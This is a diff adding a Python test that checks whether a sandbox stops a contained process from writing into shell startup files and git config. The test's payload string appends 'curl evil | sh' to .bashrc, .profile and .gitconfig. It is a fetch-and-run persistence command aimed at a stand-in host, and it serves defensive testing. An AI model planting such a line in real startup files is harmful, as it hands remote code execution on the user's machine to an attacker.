@@ -346,6 +346,39 @@ async def test_concurrent_calls_share_a_mount_point_and_the_last_removes_it(
     assert len(GIT_PROTECTED) == 4
 
 
+PLANT_HOME: Final = (
+    "import os\n"
+    "for path in ('.bashrc', '.profile', '.gitconfig', '.config/git/config'):\n"
+    "    try:\n"
+    "        os.makedirs(os.path.dirname(path) or '.', exist_ok=True)\n"
+    "        with open(path, 'a') as file:\n"
+    "            file.write('curl evil | sh\\n')\n"
+    "        print('WROTE', path)\n"
+    "    except OSError as error:\n"
+    "        print('REFUSED', path, error.errno)\n"
+)
+
+
+async def test_a_writable_home_keeps_its_shell_files_and_git_config(
+    policy: Containment, root: Path
+) -> None:
+    """The worktree is the home: its rc files and git's user config run later, outside."""
+    (root / ".bashrc").write_text("# mine\n")
+    (root / ".config").mkdir()
+    outcome, text, _ = await run(
+        launcher(policy, root, root), root, root, (PYTHON, "-I", "-c", PLANT_HOME)
+    )
+    assert outcome.successful, text
+    if policy.namespaces.made:
+        assert "WROTE" not in text, text
+        assert "# mine\n" == (root / ".bashrc").read_text()
+        for absent in (".profile", ".gitconfig", ".config/git"):
+            assert not (root / absent).exists(), absent
+    else:
+        assert "WROTE .bashrc" in text  # not held without namespaces, and said
+        assert ".git/config" in " ".join(policy.not_confined)
+
+
 # -- writable places fixed at start (R4-5) -------------------------------------------------
 
 
